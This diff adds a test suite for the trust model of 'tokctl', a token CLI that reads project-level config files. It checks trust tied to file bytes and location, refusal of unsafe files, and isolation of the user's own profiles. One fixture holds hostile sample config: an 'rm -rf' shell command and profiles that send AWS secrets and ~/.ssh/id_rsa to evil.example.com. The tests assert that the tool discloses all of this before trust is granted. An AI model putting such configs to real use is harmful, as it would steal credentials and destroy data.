@@ -1,0 +1,383 @@
+import {
+  chmodSync,
+  chownSync,
+  copyFileSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, test } from 'vitest'
+import { ahead, type Corp, clientProfile, corp } from '../support/corp.ts'
+import { program, type RunOptions, type RunResult, run, type Started, start } from '../support/run.ts'
+
+const quoted = program.map(word => `'${word}'`).join(' ')
+
+interface Shop extends Corp {
+  /** The project's directory, a repository below the home. */
+  readonly directory: string
+  readonly file: string
+  tokctl(args: string[], changes?: RunOptions): Promise<RunResult>
+}
+
+/** A home with the user's own `corp`, and a project whose file has `dev`. */
+async function shop(extra = ''): Promise<Shop> {
+  const made = await corp()
+  const { at, auth, options } = made
+  const directory = join(at.home, 'src', 'shop')
+  const file = at.write('home/src/shop/.tokctl.toml', clientProfile('dev', `${auth.url}/dev`, extra), 0o644)
+  mkdirSync(join(directory, '.git'))
+  return {
+    ...made,
+    directory,
+    file,
+    tokctl: (args, changes = {}) => run(args, { ...options, cwd: directory, ...changes }),
+  }
+}
+
+function inTerminal(command: string, options: RunOptions): Started {
+  return start(['-qefc', command, '/dev/null'], { ...options, program: ['script'], keepInput: true })
+}
+
+async function shows(started: Started, pattern: RegExp): Promise<void> {
+  while (!pattern.test(started.stdout)) {
+    if (started.child.exitCode !== null) throw new Error(`ended with ${JSON.stringify(started.stdout)}`)
+    await new Promise(resolve => setImmediate(resolve))
+  }
+}
+
+const unknown = 'tokctl: error: unknown profile "dev"\n'
+
+test('before it is trusted it has no effect: no profile, no URL, no request; only what is missing names it', async () => {
+  const { tokctl, auth } = await shop('match = ["https://git.example.com"]')
+  const missing = await tokctl(['get', 'dev'])
+  expect(missing).toMatchObject({ code: 3, stdout: '' })
+  expect(missing.stderr).toBe(
+    `${unknown}tokctl: hint: if it stands in ~/src/shop/.tokctl.toml, which is not trusted, run: tokctl trust\n`,
+  )
+  const asked = await tokctl(['helper', 'git', 'get'], { input: 'protocol=https\nhost=git.example.com\n\n' })
+  expect(asked.stdout).toBe('')
+  expect((await tokctl(['profile', 'list'])).stdout).toMatch(/^corp .*\n$/)
+  expect((await tokctl(['status', '--json'])).stdout).not.toContain('dev')
+  expect(auth.count()).toBe(0)
+  expect(await tokctl(['get', 'corp'])).toMatchObject({ code: 0, stdout: 'token-1\n', stderr: '' })
+})
+
+test('once trusted it counts, from below its directory too; edited it does not, and its old bytes count again', async () => {
+  const { tokctl, directory, file, auth } = await shop()
+  expect(await tokctl(['trust', '--yes'])).toMatchObject({ code: 0, stdout: '' })
+  const below = join(directory, 'deep', 'er')
+  mkdirSync(below, { recursive: true })
+  expect(await tokctl(['get', 'dev'], { cwd: below })).toMatchObject({
+    code: 0,
+    stdout: 'token-1\n',
+    stderr: '',
+  })
+  expect(await tokctl(['get', 'dev'])).toMatchObject({ code: 0, stdout: 'token-1\n' })
+  const bytes = readFileSync(file)
+  writeFileSync(file, `${bytes}# one letter more\n`)
+  expect(await tokctl(['get', 'dev'])).toMatchObject({ code: 3, stdout: '' })
+  expect(auth.count()).toBe(1)
+  writeFileSync(file, bytes)
+  expect(await tokctl(['get', 'dev'])).toMatchObject({ code: 0, stdout: 'token-1\n' })
+  expect(await tokctl(['untrust'])).toMatchObject({ code: 0, stdout: '', stderr: '' })
+  expect(await tokctl(['get', 'dev'])).toMatchObject({ code: 3 })
+  expect(await tokctl(['untrust'])).toMatchObject({ code: 0 })
+})
+
+test('trust is of a place: the same bytes elsewhere, trust record copied or not, are another file', async () => {
+  const { tokctl, at, file } = await shop()
+  await tokctl(['trust', '--yes'])
+  const other = join(at.home, 'src', 'other')
+  mkdirSync(other)
+  copyFileSync(file, join(other, '.tokctl.toml'))
+  expect(await tokctl(['get', 'dev'], { cwd: other })).toMatchObject({ code: 3 })
+  const trust = join(at.stateDir, 'trust')
+  const [record = ''] = readdirSync(trust)
+  for (const name of ['other', 'shop'])
+    copyFileSync(join(trust, record), join(trust, record.replace(/^shop/, name)))
+  expect(await tokctl(['get', 'dev'], { cwd: other })).toMatchObject({ code: 3 })
+  renameSync(join(at.home, 'src', 'shop'), join(at.home, 'src', 'moved'))
+  expect(await tokctl(['get', 'dev'], { cwd: join(at.home, 'src', 'moved') })).toMatchObject({ code: 3 })
+})
+
+test('it is looked for up to the root of the repository, and neither in the home nor beside a named configuration', async () => {
+  const { tokctl, at, file, directory } = await shop()
+  await tokctl(['trust', '--yes'])
+  const inner = join(directory, 'vendor')
+  mkdirSync(join(inner, '.git'), { recursive: true })
+  expect(await tokctl(['get', 'dev'], { cwd: inner })).toMatchObject({ code: 3 })
+  expect(await tokctl(['get', 'dev', '--config', at.configFile])).toMatchObject({
+    code: 3,
+    stderr: `${unknown}tokctl: hint: run: tokctl --config ${at.configFile} profile list\n`,
+  })
+  copyFileSync(file, join(at.home, '.tokctl.toml'))
+  const { code, stderr } = await tokctl(['trust', '--yes'], { cwd: at.home })
+  expect(code).toBe(2)
+  expect(stderr).toContain('no .tokctl.toml here')
+})
+
+test('without a configuration of one’s own a project works by itself', async () => {
+  const { tokctl, at } = await shop()
+  rmSync(at.configFile)
+  expect(await tokctl(['get', 'dev'])).toMatchObject({
+    code: 3,
+    stderr: expect.stringContaining('run: tokctl trust'),
+  })
+  await tokctl(['trust', '--yes'])
+  expect(await tokctl(['get', 'dev'])).toMatchObject({ code: 0, stdout: 'token-1\n', stderr: '' })
+  expect((await tokctl(['status'])).stdout).toMatch(/\ndev@shop-[0-9a-f]{12} /)
+})
+
+describe('nobody is asked', () => {
+  test('headless is no, with exit 2 and what to run', async () => {
+    const { tokctl } = await shop()
+    const { code, stdout, stderr } = await tokctl(['trust'])
+    expect({ code, stdout }).toEqual({ code: 2, stdout: '' })
+    expect(stderr).toContain(
+      'error: nobody is here to confirm it, so it is not trusted\ntokctl: hint: look at it, then run: tokctl trust --yes\n',
+    )
+    expect(await tokctl(['get', 'dev'])).toMatchObject({ code: 3 })
+  })
+
+  test.each([
+    ['y\n', 0, 0],
+    ['n\n', 1, 3],
+    ['\n', 1, 3],
+  ])('a terminal is asked: %j', async (typed, trusting, getting) => {
+    const { tokctl, options, directory } = await shop()
+    const asking = inTerminal(`exec ${quoted} trust`, { ...options, cwd: directory })
+    await shows(asking, /trust this file, as it is now\? \[y\/N\] /)
+    asking.child.stdin!.write(typed)
+    expect((await asking.done).code).toBe(trusting)
+    expect((await tokctl(['get', 'dev'])).code).toBe(getting)
+  })
+
+  test('with --no-input it is not, on a terminal either', async () => {
+    const { options, directory } = await shop()
+    const asking = inTerminal(`exec ${quoted} trust --no-input`, { ...options, cwd: directory })
+    expect((await asking.done).code).toBe(2)
+  })
+
+  test('what is edited while the question stands is not what is trusted', async () => {
+    const { tokctl, options, directory, file } = await shop()
+    const asking = inTerminal(`exec ${quoted} trust`, { ...options, cwd: directory })
+    await shows(asking, /\[y\/N\] /)
+    writeFileSync(file, `${readFileSync(file)}# changed\n`)
+    asking.child.stdin!.write('y\n')
+    await asking.done
+    expect(await tokctl(['get', 'dev'])).toMatchObject({ code: 3 })
+  })
+})
+
+test('everything that the file would do is shown first: programs, variables, files, servers, authorities', async () => {
+  const { tokctl, at, auth, file } = await shop()
+  const long = `${'x'.repeat(300)}; rm -rf`
+  writeFileSync(
+    file,
+    `[profile.build]
+source = "command"
+command = ["sh", "-c", "${long}\\u202e"]
+[profile.dev]
+source = "client_credentials"
+token_endpoint = "${auth.url}/dev"
+client_id = "c"
+client_secret = { command = ["op", "read", "op://vault/item"] }
+[profile.far]
+source = "client_credentials"
+issuer = "https://evil.example.com"
+client_id = "c"
+client_secret = { env = "AWS_SECRET_ACCESS_KEY" }
+ca_file = "ca.pem"
+match = ["https://api.example.com"]
+[profile.key]
+source = "jwt_bearer"
+token_endpoint = "https://evil.example.com/token"
+iss = "me"
+private_key = { file = "${at.home}/.ssh/id_rsa" }
+[profile.own]
+source = "static"
+token = { secret = "dev" }
+`,
+  )
+  const { code, stderr } = await tokctl(['trust', '--yes'])
+  expect(code).toBe(0)
+  const id = /dev@(shop-[0-9a-f]{12})/.exec(stderr)?.[1]
+  expect(stderr).toBe(`~/src/shop/.tokctl.toml:
+  build (command)
+    runs: sh -c "${long}\\u202e"
+  dev (client_credentials)
+    runs: op read op://vault/item
+    sends to ${auth.url}/dev
+  far (client_credentials)
+    reads the variable AWS_SECRET_ACCESS_KEY
+    sends to https://evil.example.com, which your own configuration does not name
+    trusts the authorities of ~/src/shop/ca.pem
+    its token goes to https://api.example.com
+  key (jwt_bearer)
+    reads the file ~/.ssh/id_rsa, outside the project
+    sends to https://evil.example.com/token, which your own configuration does not name
+  own (static)
+    reads the secret dev@${id}, kept with: tokctl secret set dev@${id}
+`)
+  expect((await tokctl(['trust'])).stderr).toBe('~/src/shop/.tokctl.toml is trusted as it is\n')
+})
+
+describe('the user’s own is out of its reach', () => {
+  test('a name of the user’s is refused, and one that the user takes later is the user’s', async () => {
+    const { tokctl, at, auth, file } = await shop()
+    writeFileSync(file, clientProfile('corp', `${auth.url}/evil`))
+    const refused = await tokctl(['trust', '--yes'])
+    expect(refused).toMatchObject({ code: 3 })
+    expect(refused.stderr).toContain('profile "corp" is one of your own, which always comes first')
+    writeFileSync(file, clientProfile('dev', `${auth.url}/evil`))
+    await tokctl(['trust', '--yes'])
+    at.writeConfig(readFileSync(at.configFile, 'utf8') + clientProfile('dev', `${auth.url}/mine`))
+    await tokctl(['get', 'dev'])
+    expect(auth.requests.map(({ path }) => path)).toEqual(['/mine'])
+  })
+
+  test('its tokens have places of their own: two projects and the user under one name disturb nobody', async () => {
+    const { tokctl, at, auth, file, directory } = await shop()
+    const other = join(at.home, 'src', 'other')
+    at.write('home/src/other/.tokctl.toml', clientProfile('dev', `${auth.url}/other`), 0o644)
+    for (const cwd of [directory, other]) await tokctl(['trust', '--yes'], { cwd })
+    auth.answer(({ path }) => ({
+      body: { access_token: `of${path}`, token_type: 'bearer', expires_in: 600 },
+    }))
+    for (let i = 0; i < 2; i++) {
+      expect((await tokctl(['get', 'dev'])).stdout).toBe('of/dev\n')
+      expect((await tokctl(['get', 'dev'], { cwd: other })).stdout).toBe('of/other\n')
+    }
+    expect(auth.count()).toBe(2)
+    expect(file).toContain('shop')
+  })
+
+  test('it can name neither the user’s profiles, nor keychain items, nor the store', async () => {
+    const { tokctl, auth, file } = await shop()
+    const cases: [toml: string, told: RegExp][] = [
+      [
+        `[profile.x]\nsource = "token_exchange"\ntoken_endpoint = "${auth.url}/evil"\nclient_id = "c"\nsubject_token = { profile = "corp" }\n`,
+        /unknown profile "corp"/,
+      ],
+      [
+        '[profile.x]\nsource = "static"\ntoken = { keychain = { service = "s", account = "a" } }\n',
+        /a project cannot read what other applications keep/,
+      ],
+      ['[store]\nkind = "memory"\n', /a project cannot choose where tokens are kept/],
+    ]
+    for (const [toml, told] of cases) {
+      writeFileSync(file, toml)
+      const { code, stderr } = await tokctl(['trust', '--yes'])
+      expect(code).toBe(3)
+      expect(stderr).toMatch(told)
+    }
+  })
+
+  test('a kept secret is its own: the user’s of that name is not read, and its own can be set', async () => {
+    const { tokctl, file } = await shop()
+    writeFileSync(file, '[profile.p]\nsource = "static"\ntoken = { secret = "shared" }\n')
+    await tokctl(['secret', 'set', 'shared'], { input: 'user-canary' })
+    await tokctl(['trust', '--yes'])
+    const { code, stdout, stderr } = await tokctl(['get', 'p'])
+    expect({ code, stdout }).toEqual({ code: 7, stdout: '' })
+    const name = /tokctl secret set (shared@shop-[0-9a-f]{12})/.exec(stderr)?.[1]
+    await tokctl(['secret', 'set', name!], { input: 'project-canary' })
+    expect(await tokctl(['get', 'p'])).toMatchObject({ code: 0, stdout: 'project-canary\n' })
+  })
+
+  test('a URL that the user’s own profiles match is theirs, however much longer the project’s path is', async () => {
+    const { tokctl, at, auth } = await shop(
+      'match = ["https://git.example.com/team/secret", "https://other.example.com"]',
+    )
+    at.writeConfig(
+      readFileSync(at.configFile, 'utf8').replace('source', 'match = ["https://git.example.com"]\nsource'),
+    )
+    await tokctl(['trust', '--yes'])
+    auth.answer(({ path }) => ({
+      body: { access_token: `of${path}`, token_type: 'bearer', expires_in: 600 },
+    }))
+    const asked = async (host: string, path: string): Promise<string> =>
+      (await tokctl(['helper', 'git', 'get'], { input: `protocol=https\nhost=${host}\npath=${path}\n\n` }))
+        .stdout
+    expect(await asked('git.example.com', 'team/secret')).toContain('password=of/token\n')
+    expect(await asked('other.example.com', 'x')).toContain('password=of/dev\n')
+  })
+})
+
+describe('a file that cannot be trusted', () => {
+  const cases: [name: string, spoil: (file: string) => void, told: string][] = [
+    [
+      'a link',
+      file => {
+        renameSync(file, `${file}.real`)
+        symlinkSync(`${file}.real`, file)
+      },
+      'is a link',
+    ],
+    ['somebody else’s', file => chownSync(file, 65534, 65534), 'belongs to another user'],
+    ['one that everybody may write', file => chmodSync(file, 0o666), 'can be written by everybody'],
+    [
+      'a directory',
+      file => {
+        rmSync(file)
+        mkdirSync(file)
+      },
+      'is not a regular file',
+    ],
+  ]
+  test.each(cases)('%s is refused, and trusted before it counts no more', async (_, spoil, told) => {
+    const { tokctl, file, auth } = await shop()
+    await tokctl(['trust', '--yes'])
+    spoil(file)
+    expect(await tokctl(['get', 'dev'])).toMatchObject({ code: 3, stdout: '' })
+    const { code, stderr } = await tokctl(['trust', '--yes'])
+    expect(code).toBe(3)
+    expect(stderr).toContain(told)
+    expect(auth.count()).toBe(0)
+  })
+
+  test('a trust record that others may write is none', async () => {
+    const { tokctl, at } = await shop()
+    await tokctl(['trust', '--yes'])
+    const [record = ''] = readdirSync(join(at.stateDir, 'trust'))
+    chmodSync(join(at.stateDir, 'trust', record), 0o666)
+    expect(await tokctl(['get', 'dev'])).toMatchObject({ code: 3 })
+  })
+})
+
+test('a stale token of a project is renewed in the background, in its place', async () => {
+  const { tokctl, auth, options } = await shop('min_validity = "1s"')
+  await tokctl(['trust', '--yes'])
+  await tokctl(['get', 'dev'])
+  const later = { env: { ...options.env, ...ahead('+56m') } }
+  const gate = auth.hold('/dev')
+  const stale = await tokctl(['get', 'dev'], later)
+  expect(stale).toMatchObject({ code: 0, stdout: 'token-1\n', stderr: '' })
+  await gate.arrived(1)
+  gate.release()
+  const cached = async (): Promise<string> => (await tokctl(['get', 'dev', '--cached'], later)).stdout
+  await expect.poll(cached, { timeout: 20_000 }).toBe('token-2\n')
+})
+
+test('a hit of the user’s own looks for no project, and one of a project asks nobody', async () => {
+  const { tokctl, at, auth } = await shop()
+  await tokctl(['trust', '--yes'])
+  for (const name of ['corp', 'dev']) await tokctl(['get', name])
+  const log = join(at.path, 'strace.log')
+  const traced = async (name: string): Promise<string> => {
+    await tokctl(['get', name], {
+      program: ['strace', '-f', '-qq', '-e', 'trace=%file,network', '-o', log, ...program],
+    })
+    return readFileSync(log, 'utf8')
+  }
+  expect(await traced('corp')).not.toMatch(/tokctl\.toml|\/trust\//)
+  const calls = await traced('dev')
+  expect(calls).toContain('.tokctl.toml')
+  expect(calls).not.toMatch(/socket\(|connect\(|O_(WRONLY|RDWR)[^\n]*state/)
+  expect(auth.count()).toBe(2)
+})
